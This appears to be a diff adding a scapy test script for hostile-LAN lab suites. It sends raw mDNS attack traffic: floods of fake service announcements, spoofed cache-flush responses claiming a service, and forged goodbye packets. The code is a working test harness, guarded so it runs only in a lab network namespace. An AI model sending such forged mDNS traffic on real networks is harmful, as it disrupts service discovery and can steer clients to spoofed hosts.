@@ -1,0 +1,131 @@
+#!/usr/bin/python3
+"""Raw mDNS attacks on a lab LAN (scapy), for the hostile-LAN lab suites.
+
+Runs ONLY inside a lab host (tests/lab/lab exec HOST ...): it refuses to run in
+the root network namespace, whose eth0 may be a shared network.
+
+  attacks.py flood   PREFIX COUNT TTL SRC4 [SRC6]      unsolicited responses
+        announcing COUNT services PREFIX-0000.. (PTR, SRV, TXT), five
+        services a packet with their host's A (and AAAA) record, as fast as scapy sends;
+        with SRC6 every packet goes over IPv6 too (as a dual-stack responder's)
+  attacks.py chimera NAME HOST PORT INFO COUNT GAP SRC4 SRC6   COUNT responses,
+        GAP seconds apart, claiming service NAME on HOST:PORT with TXT
+        info=INFO and HOST's address SRC4/SRC6 (cache-flush set, as a real
+        responder would)
+  attacks.py goodbye NAME COUNT SRC4 SRC6   COUNT goodbyes (PTR TTL 0) for NAME
+
+Prints one line "<mode> <count>" when done.
+"""
+import os
+import sys
+import time
+
+
+
+def refuse_root_netns():
+    """Exit unless this process is in a network namespace other than PID 1's."""
+    root = None
+    for pid in (1, 2):
+        try:
+            root = os.readlink("/proc/%d/ns/net" % pid)
+            break
+        except OSError:
+            continue
+    if root is None or os.readlink("/proc/self/ns/net") == root:
+        sys.exit("attacks.py: refusing to run in the root network namespace (use tests/lab/lab exec)")
+
+
+refuse_root_netns()
+
+from scapy.all import DNS, DNSRR, DNSRRSRV, IP, UDP, Ether, IPv6, conf, get_if_hwaddr, sendp  # noqa: E402
+
+conf.verb = 0
+TYPE = "_lmserv._tcp.local."
+IFACE = "eth0"
+MAC = get_if_hwaddr(IFACE)
+FLUSH = 0x8001  # class IN with the cache-flush bit (RFC 6762 10.2)
+
+
+def frame4(src4, dns):
+    return Ether(src=MAC, dst="01:00:5e:00:00:fb") / IP(src=src4, dst="224.0.0.251", ttl=255) / \
+        UDP(sport=5353, dport=5353) / dns
+
+
+def frame6(src6, dns):
+    return Ether(src=MAC, dst="33:33:00:00:00:fb") / IPv6(src=src6, dst="ff02::fb", hlim=255) / \
+        UDP(sport=5353, dport=5353) / dns
+
+
+def chain(rrs):
+    out = rrs[0]
+    for rr in rrs[1:]:
+        out = out / rr
+    return out
+
+
+def service(name, host, port, info, ttl):
+    full = name + "." + TYPE
+    return [DNSRR(rrname=TYPE, type="PTR", ttl=ttl, rdata=full),
+            DNSRRSRV(rrname=full, rclass=FLUSH, ttl=ttl, priority=0, weight=0, port=port, target=host),
+            DNSRR(rrname=full, type="TXT", rclass=FLUSH, ttl=ttl, rdata=[b"info=" + info.encode()])]
+
+
+def flood(prefix, count, ttl, src4, src6=None):
+    frames, rrs = [], []
+    for i in range(count):
+        # five services a packet, on a host whose address is in that packet
+        # (each packet stands alone: one lost in a burst loses only its own)
+        host = "%s-h%03d.local." % (prefix, i // 5)
+        if i % 5 == 0:
+            rrs.append(DNSRR(rrname=host, type="A", rclass=FLUSH, ttl=ttl, rdata=src4))
+            if src6:
+                rrs.append(DNSRR(rrname=host, type="AAAA", rclass=FLUSH, ttl=ttl, rdata=src6))
+        rrs += service("%s-%04d" % (prefix, i), host, 9000 + i % 1000, "flood", ttl)
+        if i % 5 == 4 or i == count - 1:
+            dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(rrs))
+            frames.append(frame4(src4, dns))
+            if src6:
+                frames.append(frame6(src6, dns))
+            rrs = []
+    sendp(frames, iface=IFACE)
+    print("flood", count, flush=True)
+
+
+def chimera(name, host, port, info, count, gap, src4, src6):
+    rrs = service(name, host, port, info, 120)
+    rrs += [DNSRR(rrname=host, type="A", rclass=FLUSH, ttl=120, rdata=src4),
+            DNSRR(rrname=host, type="AAAA", rclass=FLUSH, ttl=120, rdata=src6)]
+    dns = DNS(id=0, qr=1, aa=1, qd=None, an=chain(rrs))
+    for i in range(count):
+        sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
+        if i < count - 1:
+            time.sleep(gap)
+    print("chimera", count, flush=True)
+
+
+def goodbye(name, count, src4, src6):
+    ptr = DNSRR(rrname=TYPE, type="PTR", ttl=0, rdata=name + "." + TYPE)
+    dns = DNS(id=0, qr=1, aa=1, qd=None, an=ptr)
+    for _ in range(count):
+        sendp([frame4(src4, dns), frame6(src6, dns)], iface=IFACE)
+        time.sleep(0.05)
+    print("goodbye", count, flush=True)
+
+
+def main(argv):
+    try:
+        mode = argv[1]
+        if mode == "flood":
+            flood(argv[2], int(argv[3]), int(argv[4]), argv[5], argv[6] if len(argv) > 6 else None)
+        elif mode == "chimera":
+            chimera(argv[2], argv[3], int(argv[4]), argv[5], int(argv[6]), float(argv[7]), argv[8], argv[9])
+        elif mode == "goodbye":
+            goodbye(argv[2], int(argv[3]), argv[4], argv[5])
+        else:
+            raise IndexError
+    except (IndexError, ValueError):
+        sys.exit(__doc__)
+
+
+if __name__ == "__main__":
+    main(sys.argv)
